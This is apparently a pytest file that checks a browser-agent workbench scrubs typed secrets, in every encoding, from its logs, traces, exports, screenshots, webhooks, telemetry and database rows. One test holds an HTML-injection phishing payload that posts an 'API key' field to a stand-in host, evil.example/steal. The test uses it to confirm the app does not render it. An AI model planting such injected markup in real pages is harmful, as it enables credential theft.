"""sensitive_data never leaves the page it is typed into, in any spelling: `python app.py` in a subprocess,
real Chromium, the fake model typing two values full of characters browsers encode (~ * ! ' ( ) & + % / ? #
" < > \\ , spaces, non-ASCII letters, an emoji) into a GET form and a POST form, on pages that echo them in
text, attributes, links, JSON and the raw query. Then every place a value can land is read back and checked
by an independent decoder (percent, form, HTML and JSON/Python escapes, nested): the run log file and its
snapshot (bytes and every row), traces, both exports, screenshots (pixels), the webhook, OpenTelemetry
spans, events and the run's JSON, the workbench page showing the run, and the process log. Also: a shared
link cannot put HTML into a toast. First, the scrubber itself against spellings made here independently."""

from __future__ import annotations

import html
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote

import httpx
import pytest
from PIL import Image

from agent.testing.fakellm import FakeLLM, call, find_index, last_user_text, reply
from tests.apphelpers import App, Receiver, agent_script, poll
from tests.secretsite import SecretSite, leaks
from tests.test_mask import masked_share, spot
from tests.test_otel import OtlpReceiver

Q = "Kx~7*!'(y) &+%/?#\"<>\\,ÿé 😀 çà-Q1"  # typed into the GET form
PW = "Zq~9*!'(x) &+%/?#\"<>\\,ß 😀 ñ-P2"  # typed into the POST form
VALUES = [Q, PW]


# ------------------------------------------------------------------ the scrubber, spelling by spelling
def _numeric(text: str, fmt: str) -> str:
    return "".join(fmt.format(ord(c)) for c in text)


def _browser_form(text: str) -> str:
    """application/x-www-form-urlencoded as Chromium writes it: *-._ and letters kept, space +, the rest %XX."""
    return "".join(c if c.isascii() and (c.isalnum() or c in "*-._") else "+" if c == " " else quote(c, safe="")
                   for c in text)


SPELLINGS: dict[str, Any] = {
    "as typed": lambda v: v,
    "form (Chromium)": _browser_form,
    "percent, all": lambda v: quote(v, safe=""),
    "percent, lower-case hex": lambda v: re.sub("%[0-9A-F]{2}", lambda m: m.group(0).lower(), quote(v, safe="")),
    "percent, some characters": lambda v: "".join(quote(c, safe="") if i % 2 else c for i, c in enumerate(v)),
    "form, + for space": lambda v: quote(v, safe="").replace("%20", "+"),
    "percent, twice": lambda v: quote(quote(v, safe=""), safe=""),
    "percent, three times": lambda v: quote(quote(quote(v, safe=""), safe=""), safe=""),
    "form, twice": lambda v: quote(_browser_form(v), safe=""),
    "HTML, escaped": lambda v: html.escape(v),
    "HTML, decimal": lambda v: _numeric(v, "&#{};"),
    "HTML, decimal, leading zeros, no ;": lambda v: _numeric(v, "&#000{}"),
    "HTML, hex": lambda v: _numeric(v, "&#x{:x};"),
    "HTML, HEX": lambda v: _numeric(v, "&#X{:X}"),
    "HTML, named": lambda v: v.replace("&", "&amp;").replace("<", "&LT;").replace('"', "&quot").replace("é", "&eacute;")
    .replace("(", "&lpar;").replace("%", "&percnt;").replace(" ", "&#32;"),
    "JSON": lambda v: json.dumps(v, ensure_ascii=False)[1:-1],
    "JSON, ASCII": lambda v: json.dumps(v)[1:-1],
    "JSON, ASCII, upper-case hex": lambda v: re.sub(r"\\u([0-9a-f]{4})", lambda m: "\\u" + m.group(1).upper(),
                                                     json.dumps(v)[1:-1]),
    "JSON in HTML": lambda v: html.escape(json.dumps(v)[1:-1]),
    "Python repr": lambda v: repr(v)[1:-1],
    "Python ascii": lambda v: ascii(v)[1:-1],
    "JSON of a URL": lambda v: json.dumps(quote(v, safe=""))[1:-1],
    "mixed, character by character": lambda v: "".join(
        (c, quote(c, safe=""), f"&#{ord(c)};", json.dumps(c)[1:-1] if ord(c) < 0x10000 else c)[i % 4]
        for i, c in enumerate(v)),
    "spacing collapsed": lambda v: " ".join(v.split()),
    "clipped": lambda v: v[:12] + "…",
}


@pytest.mark.parametrize("spelling", sorted(SPELLINGS))
def test_every_spelling_is_scrubbed(spelling: str) -> None:
    from agent.engine.secrets import Secrets
    from agent.log.redact import scrub

    secrets = Secrets({"q": Q, "pw": PW})
    for name, value in (("q", Q), ("pw", PW)):
        shown = SPELLINGS[spelling](value)
        assert shown != value or spelling in ("as typed", "spacing collapsed")
        text = f"before {shown} after"
        assert secrets.scrub(text) == f"before <secret>{name}</secret> after", (spelling, shown)
        assert scrub(text, VALUES) == "before [redacted] after", (spelling, shown)


def test_scrubbing_keeps_everything_else() -> None:
    from agent.engine.secrets import Secrets

    secrets = Secrets({"short": "abc123", "long": "abc123-and-more", "pw": PW})
    assert secrets.scrub("abc123-and-more / abc123 / abc12 / ABC123") == (
        "<secret>long</secret> / <secret>short</secret> / abc12 / ABC123")  # the longer value whole; case counts
    assert secrets.scrub("Zq~9 is not the value, nor %5A%71") == "Zq~9 is not the value, nor %5A%71"
    assert secrets.scrub("a lone \ud800 half, then abc123") == "a lone \ufffd half, then <secret>short</secret>"


def model_script(body: dict[str, Any]) -> Any:
    """agent_script, plus [secrets]: search for <secret>q</secret>, read the echo, sign in with <secret>pw</secret>,
    extract from the page that echoes it, done."""
    text = last_user_text(body)
    if not body.get("tools") or "[secrets]" not in text:
        return agent_script(body) if body.get("tools") else reply("the page shows <secret>pw</secret> and no more")
    if "Search words" in text:
        return reply("Search.", call("input", index=find_index(body, "Search words", tag="input"),
                                     text="<secret>q</secret>"), call("click", index=find_index(body, "Search", tag="button")))
    if "Sign in" in text and "Password" in text:
        return reply("Sign in.", call("input", index=find_index(body, "Password", tag="input"), text="<secret>pw</secret>"),
                     call("click", index=find_index(body, "Sign in", tag="button")))
    if "pw=" in text and "Next page" in text:
        if "and no more" not in text:  # the extract's answer, in the history
            return reply("Read it.", call("extract", query="what does the page echo?"))
        return reply("Done.", call("done", text="signed in; the page echoed <secret>pw</secret>", success=True))
    return reply("Go sign in.", call("click", index=find_index(body, "Sign in", tag="a")))


@pytest.fixture(scope="module")
def site() -> Iterator[SecretSite]:
    s = SecretSite()
    yield s
    s.close()


@pytest.fixture(scope="module")
def hooks() -> Iterator[Receiver]:
    r = Receiver()
    yield r
    r.close()


@pytest.fixture(scope="module")
def otlp() -> Iterator[OtlpReceiver]:
    r = OtlpReceiver()
    yield r
    r.close()


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, otlp: OtlpReceiver) -> Iterator[App]:
    model = FakeLLM(model_script)
    env = {"OPENAI_BASE_URL": model.url, "OPENAI_API_KEY": "sk-test", "WEBHOOK_ALLOW_PRIVATE": "1",
           "OTEL_EXPORTER_OTLP_ENDPOINT": otlp.url, "OTEL_BSP_SCHEDULE_DELAY": "200",
           "OTEL_INSTRUMENTATION_GENAI_CAPTURE_MESSAGE_CONTENT": "true"}
    app = App(tmp_path_factory.mktemp("spellings") / "data", env).start()
    try:
        app.ready()
        yield app
    finally:
        app.stop()
        model.close()


@pytest.mark.slow
async def test_a_shared_link_cannot_put_html_into_a_toast(app: App, browser: Any) -> None:
    payload = ('<form action="https://evil.example/steal"><input name="key" placeholder="API key">'
               '<a href="https://evil.example">Sign in again</a></form>')
    chromium = await browser.start()
    context = await chromium.new_context(viewport={"width": 1280, "height": 900})
    try:
        page = await context.new_page()
        for query in (f"run={quote(payload)}", f"compare={quote(payload)}", f"run=1{quote(payload)}", "run=%C2%B2"):
            await page.goto(f"{app.base}/?{query}", wait_until="load")
            toast = page.locator(".toast-body, [data-testid='toast-body']").first
            await toast.wait_for(timeout=60_000)
            shown = await toast.inner_text()
            assert "takes a run id" in shown or "takes two run ids" in shown, shown
            assert await page.locator("input[placeholder='API key'], form[action*='evil'], a[href*='evil']").count() == 0
            assert "evil.example" not in await page.content()
    finally:
        await context.close()


def _scan(where: str, text: str, found: dict[str, list[str]]) -> None:
    hit = leaks(text, VALUES)
    if hit:
        found[where] = hit


@pytest.fixture(scope="module")
def recorded(app: App, site: SecretSite, hooks: Receiver) -> dict[str, Any]:
    """The run: the fake model types both values into the forms of the echo site."""
    with httpx.Client(base_url=app.base, timeout=180) as http:
        run = http.post("/api/runs", json={
            "prompt": "Search for <secret>q</secret>, then sign in with <secret>pw</secret> [secrets]",
            "model": "gpt-4o-mini", "start_url": f"{site.url}/get", "max_steps": 8,
            "webhook_url": f"{hooks.url}/hook", "sensitive_data": {"q": Q, "pw": PW}}).json()
    assert run["status"] == "success", run
    return dict(run)


@pytest.mark.slow
async def test_the_workbench_page_showing_the_run_holds_no_value(app: App, recorded: dict[str, Any],
                                                                 browser: Any) -> None:
    found: dict[str, list[str]] = {}
    _scan("workbench page", await _ui_page(app, recorded["task_run_id"], browser), found)
    assert found == {}


@pytest.mark.slow
def test_sensitive_data_reaches_no_record_in_any_spelling(app: App, site: SecretSite, hooks: Receiver,
                                                          otlp: OtlpReceiver, recorded: dict[str, Any]) -> None:
    run, http = recorded, httpx.Client(base_url=app.base, timeout=180)
    run_id, task_id = run["task_run_id"], run["task_id"]
    # The pages got the values, spelled by the browser: a form's %7E for ~, * kept, + for a space.
    (query,) = site.sent("GET", "/echo")
    assert parse_qs(query) == {"q": [Q]} and "%7E" in query and "*" in query and "+" in query
    (body,) = site.sent("POST", "/post")
    assert parse_qs(body) == {"pw": [PW]}
    # Where the engine saw them it wrote the placeholders (the step URLs, the observation of the echo).
    urls = [item["url"] or "" for item in run["history"]]
    assert any("/echo?q=<secret>q</secret>" in u for u in urls) and any("/done?pw=<secret>pw</secret>" in u for u in urls)

    found: dict[str, list[str]] = {}
    _scan("run response", json.dumps(run, ensure_ascii=False), found)
    for path in (f"/api/runs/{run_id}", "/api/runs", f"/api/tasks/{task_id}", "/api/tasks", f"/api/runs/{run_id}/webhooks",
                 f"/api/runs/{run_id}/export?format=json", f"/api/runs/{run_id}/export?format=html"):
        r = http.get(path)
        assert r.status_code == 200, (path, r.text)
        _scan(path, r.text, found)
    traces = [http.get(f"/api/runs/{run_id}/steps/{item['step']}/trace").text for item in run["history"]]
    assert any("<secret>q</secret>" in t for t in traces)
    _scan("traces", "\n".join(traces), found)
    (hook,) = poll(lambda: hooks.on("/hook"), timeout=30, what="the webhook")
    _scan("webhook", hook.body.decode("utf-8"), found)
    spans = poll(lambda: [s for s in list(otlp.spans) if s["attributes"].get("workbench.run_id") == run_id]
                 or None, timeout=30, what="the run's spans")
    poll(lambda: len([s for s in otlp.spans if s["trace_id"] == spans[0]["trace_id"]]) > len(run["history"]),
         timeout=30, what="the whole trace")
    _scan("opentelemetry", json.dumps([s for s in otlp.spans if s["trace_id"] == spans[0]["trace_id"]],
                                      ensure_ascii=False), found)

    # Screenshots: the echo pages show the values in text, a refilled field, JSON and the raw query.
    echoes = [item["step"] for item in run["history"] if "echo?q=" in (item["url"] or "") or "done?pw=" in (item["url"] or "")]
    assert len(echoes) >= 2
    for step in echoes:
        r = http.get(f"/api/runs/{run_id}/screenshots/{step}")
        assert r.status_code == 200 and r.headers["content-type"] == "image/jpeg"
        image = Image.open(io.BytesIO(r.content))
        for name in ("text", "field", "encoded", "split"):
            assert masked_share(image, *spot(name)) > 0.9, (step, name)

    # The run log: the live file (the app stopped) and its snapshot, as bytes and as every row of every table.
    app.stop()
    _scan("process log", app.log(), found)
    files = [p for p in app.data_dir.rglob("*") if p.is_file() and p.suffix != ".jpg"]
    assert any(p.name == "runs.duckdb" for p in files) and any("snapshot" in p.parts for p in files)
    for p in files:
        _scan(str(p.relative_to(app.data_dir)), p.read_bytes().decode("utf-8", "replace"), found)
    for db in (app.data_dir / "runs.duckdb", app.data_dir / "snapshot" / "runs.duckdb"):
        _scan(f"rows of {db.relative_to(app.data_dir)}", _all_rows(db), found)
    assert found == {}


async def _ui_page(app: App, run_id: int, browser: Any) -> str:
    """The workbench page showing the run (its HTML and its text)."""
    chromium = await browser.start()
    context = await chromium.new_context(viewport={"width": 1400, "height": 1000})
    try:
        page = await context.new_page()
        await page.goto(f"{app.base}/?run={run_id}", wait_until="load")
        await page.get_by_text("<secret>pw</secret>").first.wait_for(timeout=60_000)
        return await page.content() + "\n" + await page.inner_text("body")
    finally:
        await context.close()


def _all_rows(path: Path) -> str:
    """Every value of every table of a DuckDB file, as text."""
    import duckdb  # the run log's own engine: read here as a notebook would, read-only

    con = duckdb.connect(str(path), read_only=True)
    try:
        out = []
        for (table,) in con.execute("SELECT table_name FROM information_schema.tables WHERE table_type = 'BASE TABLE'"
                                    ).fetchall():
            out += [json.dumps(row, default=str, ensure_ascii=False) for row in con.execute(f'SELECT * FROM "{table}"').fetchall()]
        return "\n".join(out)
    finally:
        con.close()
